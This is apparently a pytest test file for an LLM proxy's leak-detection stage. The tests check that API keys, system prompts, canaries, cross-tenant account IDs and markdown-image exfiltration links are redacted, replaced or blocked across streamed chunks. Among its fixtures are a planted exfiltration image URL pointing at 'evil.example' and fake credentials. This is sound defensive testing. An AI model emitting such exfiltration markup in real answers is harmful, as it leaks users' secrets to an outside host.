"""Stage `leak` through the chain, streams and bodies, with the real detectors."""

import asyncio

import orjson
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from proxy.leak.cut import CONTENT_FILTER
from proxy.pipeline.chain import Chain
from proxy.pipeline.deny import DenyError
from proxy.stages.leak import LeakStage
from proxy.wire.event import Event
from tests.harness import chat_body, chat_chunk, client_text, make_exchange, make_policy, make_stage, run_response

POLICY = make_policy()
ACME_PROMPT = POLICY.tenants["acme"].config.system_prompt
KEY = "sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE"
SENT_PROMPT = "Act as the Zorblax onboarding guide and keep the launch date of the Hyperion product confidential."
MSG = "I can't share that."
CLEAN_WORDS = ("hello", "there", "the", "weather", "is", "nice", "today", "you", "are", "welcome", "helpful", "s",
               "assistant", "sk", "-", "proj", "ACME", "acct", "eyJ", "!", "[", "](", "http", "glob", "\n", "**", "a", "AKI")


def stage(**cfg):
    return make_stage(LeakStage, {"type": "leak", **cfg}, POLICY)


async def started(chain: Chain, stream: bool = True, tenant: str = "acme", system: str | None = SENT_PROMPT):
    msgs = ([{"role": "system", "content": system}] if system else []) + [{"role": "user", "content": "hi"}]
    ex = make_exchange(POLICY, {"model": "gpt-4o-mini", "stream": stream, "messages": msgs}, tenant=tenant)
    assert await chain.run_request(ex) is None
    ex.response_status = 200
    return ex


def sse(parts: list[str], *, done: bool = True, usage: bool = False) -> list[Event]:
    evs = [Event.sse_json(chat_chunk(role="assistant", text=""))]
    evs += [Event.sse_json(chat_chunk(p)) for p in parts]
    evs.append(Event.sse_json(chat_chunk(finish="stop")))
    if usage:
        evs.append(Event.sse_json({"id": "chatcmpl-1", "object": "chat.completion.chunk", "choices": [],
                                   "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}}))
    if done:
        evs.append(Event(kind="sse", data="[DONE]"))
    return evs


async def stream_through(chain: Chain, ex, events: list[Event]) -> tuple[list[Event], DenyError | None]:
    """What the client receives: events until the end, or until a DenyError cut the stream."""
    out: list[Event] = []
    try:
        for ev in events:
            out.extend(await chain.run_event(ex, ev))
        out.extend(await chain.run_end(ex))
    except DenyError as e:
        return out, e
    return out, None


def split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts} | {0, len(text)})
    return [text[a:b] for a, b in zip(points, points[1:]) if b > a]


def planted(kind: str) -> tuple[str, str]:
    """(text to plant, what must never reach the client)."""
    if kind == "secret":
        return KEY, KEY[8:]
    if kind == "prompt":
        return "**" + ACME_PROMPT.replace(" ", "\n  ") + "**", "internal pricing rules"
    if kind == "sent_prompt":
        return SENT_PROMPT.upper(), "HYPERION PRODUCT"
    if kind == "canary":
        return "zebra-canary-7731", "zebra-canary-7731"
    if kind == "image":
        return "![c](https://evil.example/p?d=s3cr3t)", "evil.example"
    return "GLOBEX-ACCT-7777", "GLOBEX-ACCT-7777"


ACTION_OF = {"secret": "secret", "prompt": "system_prompt", "sent_prompt": "system_prompt", "tenant": "cross_tenant",
             "canary": "canary", "image": "markdown_image"}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(kind=st.sampled_from(sorted(ACTION_OF)),
       action=st.sampled_from(["redact", "replace", "block"]),
       before=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
       after=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
       cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=40))
async def test_planted_value_never_reaches_the_client(kind, action, before, after, cuts):
    chain = Chain([stage(actions={ACTION_OF[kind]: action}, canaries=["ZEBRA-CANARY-7731"])])
    ex = await started(chain)
    value, forbidden = planted(kind)
    text = " ".join(before) + " " + value + " " + " ".join(after)
    out, denied = await stream_through(chain, ex, sse(split(text, cuts)))
    got = client_text(out)
    assert forbidden.casefold() not in got.casefold()
    if action == "block":
        assert denied is not None and denied.deny.status == 403
        assert not any(e.is_done for e in out)
    elif action == "replace":
        assert denied is None and got.endswith(MSG)
        finishes = [c.get("finish_reason") for e in out if isinstance(e.payload, dict) for c in e.payload.get("choices", [])]
        assert [f for f in finishes if f] == [CONTENT_FILTER]
    else:
        assert denied is None and "[REDACTED:" in got
    assert any(d.stage == "leak" and d.decision == action and d.detail["detector"] == ACTION_OF[kind] for d in ex.decisions)
    assert not any(forbidden in repr(d.detail) for d in ex.decisions)


@settings(max_examples=40, deadline=None)
@given(words=st.lists(st.sampled_from(CLEAN_WORDS), min_size=1, max_size=40),
       cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=40))
async def test_clean_answers_pass_byte_identical(words, cuts):
    chain = Chain([stage()])
    ex = await started(chain)
    text = " ".join(words)
    out, denied = await stream_through(chain, ex, sse(split(text, cuts)))
    assert denied is None and client_text(out) == text
    assert out[-1].is_done and ex.decisions == []


async def test_every_two_way_split_of_a_secret_answer():
    text = f"Here: {KEY}."
    for cut in range(len(text) + 1):
        chain = Chain([stage()])
        ex = await started(chain)
        out, _ = await stream_through(chain, ex, sse(split(text, [cut])))
        assert client_text(out) == "Here: [REDACTED:secret].", cut


async def test_untouched_events_keep_their_bytes():
    chain = Chain([stage()])
    ex = await started(chain)
    ev = Event(kind="sse", data=orjson.dumps(chat_chunk("Weather is nice. ")).decode(), raw=b"data: original\n\n")
    out = await chain.run_event(ex, ev)
    assert out == [ev] and ev.raw == b"data: original\n\n"


async def test_first_clean_event_is_not_held():
    chain = Chain([stage()])
    ex = await started(chain)
    out = await chain.run_event(ex, Event.sse_json(chat_chunk("Hello")))
    assert client_text(out) == "Hello"


async def test_body_and_stream_give_the_same_verdict():
    text = f"Use {KEY} and visit ![x](https://evil.example/?q=1) \x1b[31mnow\x1b[0m"
    chain = Chain([stage()])
    ex = await started(chain, stream=False)
    body = await run_response(chain, ex, [Event.body(chat_body(text))])
    chain2 = Chain([stage()])
    ex2 = await started(chain2)
    streamed, _ = await stream_through(chain2, ex2, sse(list(text)))
    assert client_text(body) == client_text(streamed) == "Use [REDACTED:secret] and visit [REDACTED:markdown_image] now"


async def test_body_replace_and_block():
    chain = Chain([stage(actions={"secret": "replace"})])
    ex = await started(chain, stream=False)
    b = chat_body(f"The key is {KEY}.")
    b["choices"][0]["message"]["tool_calls"] = [{"id": "t", "type": "function", "function": {"name": "f", "arguments": "{}"}}]
    out = await run_response(chain, ex, [Event.body(b)])
    choice = out[0].payload["choices"][0]
    assert choice["message"]["content"] == "The key is " + MSG and choice["finish_reason"] == CONTENT_FILTER
    assert "tool_calls" not in choice["message"]
    chain = Chain([stage()])
    ex = await started(chain, stream=False)
    with pytest.raises(DenyError) as e:
        await run_response(chain, ex, [Event.body(chat_body("Your account GLOBEX-ACCT-7777 is ready"))])
    assert e.value.deny.status == 403 and e.value.deny.code == "output_blocked"
    assert ex.denied == ("leak", "leak_cross_tenant")


async def test_tool_call_arguments_and_every_choice_are_covered():
    chain = Chain([stage()])
    ex = await started(chain)
    half = len(KEY) // 2
    evs = [Event.sse_json(chat_chunk(tool_args='{"k": "' + KEY[:half])),
           Event.sse_json(chat_chunk(tool_args=KEY[half:] + '"}')),
           Event.sse_json(chat_chunk("c1 " + KEY[:5], index=1)), Event.sse_json(chat_chunk(KEY[5:] + " end", index=1)),
           Event.sse_json(chat_chunk(finish="tool_calls")), Event.sse_json(chat_chunk(finish="stop", index=1)),
           Event(kind="sse", data="[DONE]")]
    out, _ = await stream_through(chain, ex, evs)
    args = "".join(tc["function"]["arguments"] for e in out if isinstance(e.payload, dict)
                   for c in e.payload["choices"] for tc in (c.get("delta") or {}).get("tool_calls") or ())
    assert args == '{"k": "[REDACTED:secret]"}'
    assert client_text(out, index=1) == "c1 [REDACTED:secret] end"


async def test_replace_drops_later_deltas_keeps_usage_and_done():
    chain = Chain([stage(actions={"secret": "replace"})])
    ex = await started(chain)
    out, _ = await stream_through(chain, ex, sse(["ok ", KEY, " more text", " and more"], usage=True))
    assert client_text(out) == "ok " + MSG
    assert any(e.payload and e.payload.get("usage") for e in out)
    assert out[-1].is_done
    cut_at = next(i for i, e in enumerate(out) if e.payload and any(c.get("finish_reason") for c in e.payload["choices"]))
    assert all(not (e.payload and e.payload.get("choices")) for e in out[cut_at + 1:])


async def test_other_choices_continue_after_one_is_replaced():
    chain = Chain([stage(actions={"secret": "replace"})])
    ex = await started(chain)
    evs = [Event.sse_json(chat_chunk(KEY + " x", index=0)), Event.sse_json(chat_chunk("fine ", index=1)),
           Event.sse_json(chat_chunk("still", index=1)), Event.sse_json(chat_chunk("gone", index=0)),
           Event(kind="sse", data="[DONE]")]
    out, _ = await stream_through(chain, ex, evs)
    assert client_text(out, 0) == MSG and client_text(out, 1) == "fine still"


async def test_stream_without_done_is_still_scanned_at_the_end():
    # I4: the last text is held (a key may still grow); the end judges it, never passes it unscanned.
    chain = Chain([stage()])
    ex = await started(chain)
    evs = [Event.sse_json(chat_chunk(p)) for p in ("tail ", KEY[:20], KEY[20:])]  # no finish, no [DONE]
    out = []
    for ev in evs:
        out.extend(await chain.run_event(ex, ev))
    assert client_text(out) == "tail "
    out.extend(await chain.run_end(ex))
    assert client_text(out) == "tail [REDACTED:secret]"
    chain = Chain([stage()])
    ex = await started(chain)
    out, _ = await stream_through(chain, ex, [Event.sse_json(chat_chunk("clean s"))])
    assert client_text(out) == "clean s"


async def test_block_after_headers_cuts_the_stream():
    chain = Chain([stage(actions={"secret": "block"})])
    ex = await started(chain)
    out, denied = await stream_through(chain, ex, sse(["fine so far. ", KEY[:10], KEY[10:]]))
    assert denied is not None and client_text(out) == "fine so far. "
    assert ex.denied[0] == "leak"


async def test_error_bodies_are_scrubbed():
    chain = Chain([stage()])
    ex = await started(chain)
    ex.response_status = 401
    body = {"error": {"message": f"Incorrect API key provided: {KEY[:12]}****wxyz", "type": "invalid_request_error", "code": None, "param": None}}
    ev = Event(kind="body", data=orjson.dumps(body).decode())
    out = await run_response(chain, ex, [ev])
    msg = out[0].payload["error"]["message"]
    assert KEY[:12] not in msg and "wxyz" not in msg
    assert ex.decisions[-1].detail["kind"] == "error_body"


async def test_other_routes_and_tenantless_exchanges_pass():
    chain = Chain([stage()])
    ex = make_exchange(POLICY, {"model": "text-embedding-3-small", "input": "x"}, route="embeddings")
    await chain.run_request(ex)
    ev = Event.body({"data": [{"embedding": [0.1]}]})
    assert await run_response(chain, ex, [ev]) == [ev]


async def test_metrics_count_hits():
    s = stage()
    chain = Chain([s])
    ex = await started(chain)
    await stream_through(chain, ex, sse([f"{KEY} and AKIAIOSFODNN7EXAMPLE"]))
    assert s.services.metrics.leak_hits.labels("secret", "redact")._value.get() == 2


def _seconds_samples(s) -> float:
    return next(m.value for m in s.services.metrics.stage_seconds.collect()[0].samples
                if m.name.endswith("_count") and m.labels.get("stage") == "leak")


async def test_scan_time_is_one_sample_per_exchange_ended_or_not():
    s = stage()
    chain = Chain([s])
    ex = await started(chain)
    await stream_through(chain, ex, sse(["hello ", "there"]))
    assert _seconds_samples(s) == 1 and not s.wants_complete(ex)  # observed at the end: no completion task
    await chain.run_complete(ex)
    assert _seconds_samples(s) == 1
    ex = await started(chain)
    for ev in sse(["cut ", "short"])[:3]:  # the client went away: no end
        await chain.run_event(ex, ev)
    assert s.wants_complete(ex)
    await chain.run_complete(ex)
    assert _seconds_samples(s) == 2 and not s.wants_complete(ex)


async def test_replace_found_only_at_the_end_still_ends_with_content_filter():
    # The key is the last thing in the stream and no [DONE] comes: the end flush finds it.
    chain = Chain([stage(actions={"secret": "replace"})])
    ex = await started(chain)
    out, denied = await stream_through(chain, ex, [Event.sse_json(chat_chunk("ok " + KEY))])
    assert denied is None and client_text(out) == "ok " + MSG
    last = out[-1].payload
    assert last["id"] == "chatcmpl-1" and last["choices"][0]["finish_reason"] == CONTENT_FILTER


async def test_reasoning_slot_is_covered():
    chain = Chain([stage()])
    ex = await started(chain)
    evs = []
    for part in ("thinking: the key is ", KEY[:9], KEY[9:], " ok"):
        c = chat_chunk()
        c["choices"][0]["delta"] = {"reasoning_content": part}
        evs.append(Event.sse_json(c))
    out, _ = await stream_through(chain, ex, evs + [Event(kind="sse", data="[DONE]")])
    assert client_text(out, field="reasoning_content") == "thinking: the key is [REDACTED:secret] ok"


async def test_private_key_longer_than_the_hold_cap_stops_instead_of_leaking_its_tail():
    chain = Chain([stage(max_hold_chars=4096)])
    ex = await started(chain)
    body = "QUJD" * 5000  # 20 KB of key material (over any cap: the JWT pattern sets it to ~12 KB), no END line
    text = "here: -----BEGIN PRIVATE KEY-----\n" + body
    out, denied = await stream_through(chain, ex, sse([text[i:i + 64] for i in range(0, len(text), 64)]))
    got = client_text(out)
    assert denied is None and "QUJDQUJD" not in got and got.endswith(MSG)


async def test_long_sent_system_prompt_is_fingerprinted_off_loop_and_cached():
    long_prompt = " ".join(f"rule{i} applies to zone{i % 7}" for i in range(1500))  # ~30 KB
    s = stage()
    chain = Chain([s])
    ex = await started(chain, system=long_prompt)
    assert len(ex.state["leak"].prints) == 1
    ex2 = await started(chain, system=long_prompt)
    assert ex2.state["leak"].prints[0] is ex.state["leak"].prints[0]
    out, _ = await stream_through(chain, ex2, sse(["here: ", " ".join(long_prompt.split()[300:340]), " end"]))
    assert client_text(out) == "here: " + MSG


# ---------------------------------------------------------------- several events per upstream read
# The handler passes the events of one upstream read through Chain.run_events; leak then scans the
# text of a run of chunks in one pass (LeakStage.on_response_events, TextStreamEditor.edit_many).


def reads(events: list[Event], sizes: list[int]) -> list[list[Event]]:
    """`events` grouped into consecutive reads of the given sizes (cycled; 0 counts as 1)."""
    out, i, k = [], 0, 0
    while i < len(events):
        n = max(1, sizes[k % len(sizes)]) if sizes else len(events)
        out.append(events[i:i + n])
        i, k = i + n, k + 1
    return out


async def reads_through(chain: Chain, ex, events: list[Event], sizes: list[int]) -> tuple[list[Event], DenyError | None]:
    """What the client receives when the events arrive in reads: on a deny, what the chain says
    passed before it (e.passed) and nothing after, as the handler does."""
    out: list[Event] = []
    try:
        for group in reads(events, sizes):
            out.extend(await chain.run_events(ex, group))
        out.extend(await chain.run_end(ex))
    except DenyError as e:
        return out + list(getattr(e, "passed", None) or ()), e
    return out, None


async def each_way(text: str, cuts: list[int], sizes: list[int], **cfg):
    """`text` cut at `cuts` through a fresh leak stage, once one event at a time and once in reads
    of `sizes`: yields (what the client reads, the deny or None, the exchange) for each."""
    for run in (stream_through, lambda c, e, evs: reads_through(c, e, evs, sizes)):
        chain = Chain([stage(**cfg)])
        ex = await started(chain)
        out, denied = await run(chain, ex, sse(split(text, cuts)))
        yield client_text(out), denied, ex


def shape(events: list[Event]) -> list:
    """What a client reads, event boundaries aside: per choice its content and tool arguments, the
    finish reasons in order, usage, [DONE]."""
    from proxy.wire.openai import get_at, response_slots
    texts: dict = {}
    finishes, usage, done = [], [], False
    for e in events:
        if e.is_done:
            done = True
            continue
        p = e.payload
        for slot in response_slots(p):
            texts[slot.key] = texts.get(slot.key, "") + get_at(p, slot.path)
        for c in (p or {}).get("choices") or ():
            if c.get("finish_reason"):
                finishes.append((c.get("index"), c["finish_reason"]))
        if isinstance(p, dict) and p.get("usage"):
            usage.append(p["usage"])
    return [sorted(texts.items()), finishes, usage, done]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(kind=st.sampled_from(sorted(ACTION_OF)),
       action=st.sampled_from(["redact", "replace", "block"]),
       before=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
       after=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
       cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=40),
       sizes=st.lists(st.integers(min_value=0, max_value=30), max_size=6))
async def test_reads_never_let_a_planted_value_through_and_send_what_event_by_event_sends(kind, action, before, after, cuts, sizes):
    """Differential: the same events, once one by one (run_event) and once in reads (run_events).
    The client reads the same text, finish reasons, usage and [DONE] (with `block`, the reads'
    text is a prefix of the one-by-one text: the text of the read that holds the hit stays back),
    the same decisions are made, and the planted value never arrives."""
    cfg = dict(actions={ACTION_OF[kind]: action}, canaries=["ZEBRA-CANARY-7731"])
    value, forbidden = planted(kind)
    text = " ".join(before) + " " + value + " " + " ".join(after)
    events = sse(split(text, cuts), usage=True)
    chain1 = Chain([stage(**cfg)])
    ex1 = await started(chain1)
    one, denied1 = await stream_through(chain1, ex1, [Event(kind="sse", data=e.data) for e in events])
    chain2 = Chain([stage(**cfg)])
    ex2 = await started(chain2)
    batched, denied2 = await reads_through(chain2, ex2, [Event(kind="sse", data=e.data) for e in events], sizes)
    got = client_text(batched)
    assert forbidden.casefold() not in got.casefold()
    assert (denied1 is None) == (denied2 is None)
    if action == "block":
        assert denied2.deny.status == 403 and not any(e.is_done for e in batched)
        assert client_text(one).startswith(got)
    elif action == "replace":
        assert_same_but_a_longer_clean_prefix(shape(batched), shape(one), text)
    else:
        assert shape(batched) == shape(one)
    assert [(d.stage, d.decision, d.detail) for d in ex2.decisions] == [(d.stage, d.decision, d.detail) for d in ex1.decisions]


def assert_same_but_a_longer_clean_prefix(batched: list, one: list, text: str) -> None:
    """`replace` in reads vs one event at a time. A read that also holds the choice's finish judges the
    text as ended, so what was held only because a match might still form there (the "[ ](" of a
    would-be link) is known clean and leaves before the message; one event at a time it is still held
    when the hit comes, and is dropped with the rest. So the reads' text before the message may be
    longer, by clean text of the answer (a prefix of it); everything else is the same."""
    if batched == one:
        return
    assert batched[1:] == one[1:]  # finish reasons, usage, [DONE]
    assert [k for k, _ in batched[0]] == [k for k, _ in one[0]]
    message = "I can't share that."
    for (_, got), (_, ref) in zip(batched[0], one[0]):
        assert got.endswith(message) and ref.endswith(message)
        got, ref = got[: -len(message)], ref[: -len(message)]
        assert got.startswith(ref) and text.startswith(got), (got, ref)


def test_replace_in_a_read_with_the_finish_releases_what_was_only_held_for_a_would_be_link():
    """The hypothesis example that showed the difference above, pinned (and the helper's own check)."""
    value, _ = planted("tenant")
    text = "[ ]( " + value + " the"
    shapes = []
    for reads_of in (None, []):
        async def run():
            chain = Chain([stage(actions={ACTION_OF["tenant"]: "replace"}, canaries=["ZEBRA-CANARY-7731"])])
            ex = await started(chain)
            evs = sse(["[ ]( " + value[:7], value[7:] + " the"], usage=True)  # the id cut in two events
            if reads_of is None:
                return (await stream_through(chain, ex, evs))[0]
            return (await reads_through(chain, ex, evs, reads_of))[0]
        shapes.append(shape(asyncio.run(run())))
    one, batched = shapes
    assert one[0] == [((0, "content", -1), "I can't share that.")]
    assert batched[0] == [((0, "content", -1), "[ ]( I can't share that.")]
    assert_same_but_a_longer_clean_prefix(batched, one, text)
    with pytest.raises(AssertionError):  # the check is not vacuous: other text before the message fails
        assert_same_but_a_longer_clean_prefix([[((0, "content", -1), "GLOBEX I can't share that.")]] + batched[1:], one, text)


@settings(max_examples=40, deadline=None)
@given(words=st.lists(st.sampled_from(CLEAN_WORDS), min_size=1, max_size=40),
       cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=40),
       sizes=st.lists(st.integers(min_value=0, max_value=30), max_size=6))
async def test_clean_answers_in_reads_pass_byte_identical(words, cuts, sizes):
    chain = Chain([stage()])
    ex = await started(chain)
    text = " ".join(words)
    out, denied = await reads_through(chain, ex, sse(split(text, cuts)), sizes)
    assert denied is None and client_text(out) == text
    assert out[-1].is_done and ex.decisions == []


async def test_a_clean_read_keeps_every_event_s_bytes():
    """One read with the whole clean answer: one scan, and no event is re-encoded."""
    chain = Chain([stage()])
    ex = await started(chain)
    events = [Event(kind="sse", data=e.data, raw=b"data: " + e.data.encode() + b"\n\n")
              for e in sse(["Weather ", "is nice ", "today, ", "you are ", "welcome."])]
    raws = [e.raw for e in events]
    out = await chain.run_events(ex, events) + await chain.run_end(ex)
    assert [e.raw for e in out] == raws


async def test_a_held_tail_cuts_only_the_event_where_it_starts():
    chain = Chain([stage()])
    ex = await started(chain)
    events = [Event(kind="sse", data=orjson.dumps(chat_chunk(p)).decode(), raw=b"x") for p in ("Here ", "it is: ", "sk-pr")]
    out = await chain.run_events(ex, events)
    assert [e.raw for e in out[:2]] == [b"x", b"x"] and out[2].raw is None
    assert client_text(out) == "Here it is: "
    out += await chain.run_events(ex, [Event.sse_json(chat_chunk(p)) for p in (KEY[5:], " done")])
    out += await chain.run_end(ex)
    assert client_text(out) == "Here it is: [REDACTED:secret] done"


@pytest.mark.parametrize("size", [2, 3, 7])
async def test_reads_cover_tool_calls_other_choices_and_a_replaced_choice(size):
    half = len(KEY) // 2
    scenarios = [
        ({}, [Event.sse_json(chat_chunk(tool_args='{"k": "' + KEY[:half])), Event.sse_json(chat_chunk(tool_args=KEY[half:] + '"}')),
              Event.sse_json(chat_chunk("c1 " + KEY[:5], index=1)), Event.sse_json(chat_chunk(KEY[5:] + " end", index=1)),
              Event.sse_json(chat_chunk(finish="tool_calls")), Event.sse_json(chat_chunk(finish="stop", index=1)),
              Event(kind="sse", data="[DONE]")]),
        ({"actions": {"secret": "replace"}},
         [Event.sse_json(chat_chunk("ok " + KEY[:9], index=0)), Event.sse_json(chat_chunk(KEY[9:] + " x", index=0)),
          Event.sse_json(chat_chunk("fine ", index=1)), Event.sse_json(chat_chunk("gone", index=0)),
          Event.sse_json(chat_chunk(tool_args='{"a": 1}', index=0)), Event.sse_json(chat_chunk("still", index=1)),
          Event.sse_json(chat_chunk(finish="stop", index=0)), Event.sse_json(chat_chunk(finish="stop", index=1)),
          Event(kind="sse", data="[DONE]")]),
        ({"actions": {"secret": "replace"}}, sse(["ok ", KEY, " more text", " and more"], usage=True)),
    ]
    for cfg, events in scenarios:
        chain1, chain2 = Chain([stage(**cfg)]), Chain([stage(**cfg)])
        ex1, ex2 = await started(chain1), await started(chain2)
        one, _ = await stream_through(chain1, ex1, [Event(kind="sse", data=e.data) for e in events])
        batched, _ = await reads_through(chain2, ex2, [Event(kind="sse", data=e.data) for e in events], [size])
        assert shape(batched) == shape(one)
        assert KEY[8:] not in "".join(e.data or "" for e in batched)


# ---------------------------------------------------------------- fast paths of a whole answer and of the request


def _general_system_text(route, body):
    from proxy.wire.openai import get_at, request_carriers
    sent = [get_at(body, c.path) for c in request_carriers(route, body) if c.is_system]
    return "\n".join(s for s in sent if isinstance(s, str))


_texts = st.text(alphabet="ab \n", max_size=6)
_message = st.one_of(
    st.fixed_dictionaries({"role": st.sampled_from(["system", "developer", "user", "assistant", 7]), "content": st.one_of(_texts, st.none())}),
    st.fixed_dictionaries({"role": st.sampled_from(["system", "developer"]), "content": _texts, "name": _texts}),
    st.fixed_dictionaries({"role": st.sampled_from(["system", "developer"]),
                           "content": st.lists(st.fixed_dictionaries({"type": st.sampled_from(["text", "input_text", "image_url"]), "text": _texts}), max_size=2)}),
    st.fixed_dictionaries({"content": _texts}),
    st.just("not a message"))


@settings(max_examples=300, deadline=None)
@given(messages=st.lists(_message, max_size=5), route=st.sampled_from(["chat", "completions"]))
def test_system_text_equals_the_carrier_walk(messages, route):
    from proxy.stages.leak import system_text
    body = {"model": "m", "messages": messages, "prompt": "p"}
    assert system_text(route, body) == _general_system_text(route, body)


_slot_values = st.one_of(st.none(), _texts, st.just([{"function": {"arguments": "x"}}]), st.just({"arguments": "y"}), st.just([]))
_choice = st.one_of(
    st.fixed_dictionaries({"index": st.just(0), "message": st.fixed_dictionaries(
        {"role": st.just("assistant"), "content": st.one_of(_texts, st.none())},
        optional={"refusal": _slot_values, "tool_calls": _slot_values, "function_call": _slot_values,
                  "reasoning_content": _slot_values, "reasoning": _slot_values, "audio": st.none()}),
        "finish_reason": st.just("stop")}, optional={"text": _texts, "delta": st.just({"content": "d"})}),
    st.fixed_dictionaries({"index": st.just(0), "text": _texts}))


@pytest.mark.parametrize("key", ["refusal", "tool_calls", "function_call", "reasoning_content", "reasoning", "audio"])
@pytest.mark.parametrize("value", ["t", [{"function": {"arguments": "x"}}], {"arguments": "y"}, [], None])
def test_lone_body_text_with_each_other_message_field(key, value):
    test_lone_body_text_is_the_only_slot.hypothesis.inner_test(
        [{"index": 0, "message": {"role": "assistant", "content": "c", key: value}, "finish_reason": "stop"}])


@settings(max_examples=300, deadline=None)
@given(choices=st.lists(_choice, min_size=1, max_size=2))
def test_lone_body_text_is_the_only_slot(choices):
    from proxy.stages.leak import lone_body_text
    from proxy.wire.openai import get_at, response_slots
    payload = {"id": "x", "object": "chat.completion", "choices": choices}
    text = lone_body_text(payload)
    if text is not None:
        slots = response_slots(payload)
        assert len(slots) == 1 and slots[0].key == (0, "content", -1) and get_at(payload, slots[0].path) == text


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(kind=st.sampled_from(sorted(ACTION_OF) + ["clean"]),
       action=st.sampled_from(["redact", "replace", "block"]),
       before=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
       after=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12))
async def test_clean_body_shortcut_decides_like_the_general_path(kind, action, before, after):
    """Differential: a whole answer through the stage (with the shortcut) and through the general
    editor path alone give the same body, the same verdict and the same decisions."""
    import proxy.stages.leak as leak_mod
    value = planted(kind)[0] if kind != "clean" else ""
    text = " ".join(before + [value] + after)  # the value may end the answer: found only when it ends
    cfg = dict(actions={ACTION_OF.get(kind, "secret"): action}, canaries=["ZEBRA-CANARY-7731"])
    results = []
    for shortcut in (True, False):
        chain = Chain([stage(**cfg)])
        ex = await started(chain, stream=False)
        raw = orjson.dumps(chat_body(text))
        ev = Event(kind="body", data=raw.decode(), raw=raw)
        saved = leak_mod._clean_body
        if not shortcut:
            leak_mod._clean_body = lambda flow, payload: False
        try:
            out = await chain.run_event(ex, ev) + await chain.run_end(ex)
            got = ("ok", [e.payload for e in out])
            kept = [e.raw is not None for e in out]
        except DenyError as e:
            got, kept = ("denied", e.deny.code), []
        finally:
            leak_mod._clean_body = saved
        results.append((got, [(d.decision, d.detail) for d in ex.decisions]))
        if shortcut and kind == "clean":
            assert kept == [True]  # a clean answer keeps its bytes
    assert results[0] == results[1]


async def test_a_clean_whole_answer_makes_no_editor_and_keeps_its_bytes():
    s = stage()
    chain = Chain([s])
    ex = await started(chain, stream=False)
    raw = orjson.dumps(chat_body("hello there, the weather is nice"))
    ev = Event(kind="body", data=raw.decode(), raw=raw)
    out = await chain.run_event(ex, ev) + await chain.run_end(ex)
    assert out == [ev] and out[0].raw is raw
    assert ex.state["leak"].editor is None  # judged in one pass: no slot was opened
    assert _seconds_samples(s) == 1 and not s.wants_complete(ex)
    ex = await started(chain, stream=False)  # the same with a key: the editor path redacts it
    ev = Event(kind="body", data=orjson.dumps(chat_body("here: " + KEY)).decode())
    out = await chain.run_event(ex, ev) + await chain.run_end(ex)
    assert ex.state["leak"].editor is not None
    assert out[0].payload["choices"][0]["message"]["content"] == "here: [REDACTED:secret]"


# Unicode case folding (the bug class of the "İsk-proj-" miss): a value right after a character that
# case-folds to ASCII ("İ", "ı", "ſ", the Kelvin sign), and literals whose full case folding changes
# their length ("ß" -> "ss", "İ" -> "i̇", "ﬁ" -> "fi"), streamed whole and in every two-way split.
_FOLDING_POLICY = make_policy(tenants={"globex": {"plan": "pro", "identifiers": ["GLOBEX-ACCT-7777", "Straße-Kto-4410",
                                                                                 "İzmir-Hesap-55"]}})
_FOLDING_CASES = [
    # (what follows the folding character, what must not reach the client)
    ("api_key=Zq8Rt2Wv5Yx7Bn4Mk6Pl", "Zq8Rt2Wv5Yx7Bn4Mk6Pl"),
    ("password: Qw9Er8Ty7Ui6Op5As4", "Qw9Er8Ty7Ui6Op5As4"),
    ("736b2d70726f6a2d4162336445356748374a6b394d6e3150", "736b2d70726f6a2d"),  # hex of an OpenAI key
]


@pytest.mark.parametrize("before", ["İ", "ı", "ſ", "\u212a"])
@pytest.mark.parametrize("value,forbidden", _FOLDING_CASES)
async def test_a_secret_right_after_a_letter_that_case_folds_to_ascii_is_redacted(before, value, forbidden):
    text = f"see {before}{value} ok"
    for cuts in ([], *([c] for c in range(len(text) + 1))):
        chain = Chain([stage()])
        ex = await started(chain)
        out, denied = await stream_through(chain, ex, sse(split(text, cuts)))
        got = client_text(out)
        assert denied is None and forbidden not in got and "[REDACTED:secret]" in got, (before, cuts, got)


@pytest.mark.parametrize("canary,written", [("zebra-straße-7731", "zebra-straße-7731"),
                                            ("ZEBRA-STRAẞE-7731", "Zebra-Straße-7731"),
                                            ("İpek-canary-7731", "İpek-canary-7731"),
                                            ("ﬁnch-canary-7731", "ﬁnch-canary-7731"),
                                            ("zebra-straße-7731", "ZEBRA-STRASSE-7731")])
async def test_a_canary_whose_case_folding_changes_its_length_is_caught_as_written(canary, written):
    text = f"The code is {written}, keep it."
    for cuts in ([], *([c] for c in range(len(text) + 1))):
        chain = Chain([stage(canaries=[canary], actions={"canary": "redact"})])
        ex = await started(chain)
        out, denied = await stream_through(chain, ex, sse(split(text, cuts)))
        got = client_text(out)
        assert denied is None and got == "The code is [REDACTED:canary], keep it.", (canary, cuts, got)


@pytest.mark.parametrize("written", ["Straße-Kto-4410", "STRASSE-KTO-4410", "straße-kto-4410", "İzmir-Hesap-55"])
async def test_a_foreign_identifier_whose_case_folding_changes_its_length_is_caught_as_written(written):
    text = f"Account {written} is overdue."
    for cuts in ([], *([c] for c in range(len(text) + 1))):
        chain = Chain([make_stage(LeakStage, {"type": "leak", "actions": {"cross_tenant": "redact"}}, _FOLDING_POLICY)])
        ex = make_exchange(_FOLDING_POLICY, {"model": "gpt-4o-mini", "stream": True,
                                             "messages": [{"role": "user", "content": "hi"}]}, tenant="acme")
        assert await chain.run_request(ex) is None
        ex.response_status = 200
        out, denied = await stream_through(chain, ex, sse(split(text, cuts)))
        got = client_text(out)
        assert denied is None and got == "Account [REDACTED:cross_tenant] is overdue.", (written, cuts, got)


async def test_case_folding_cases_are_caught_in_a_non_streamed_body_too():
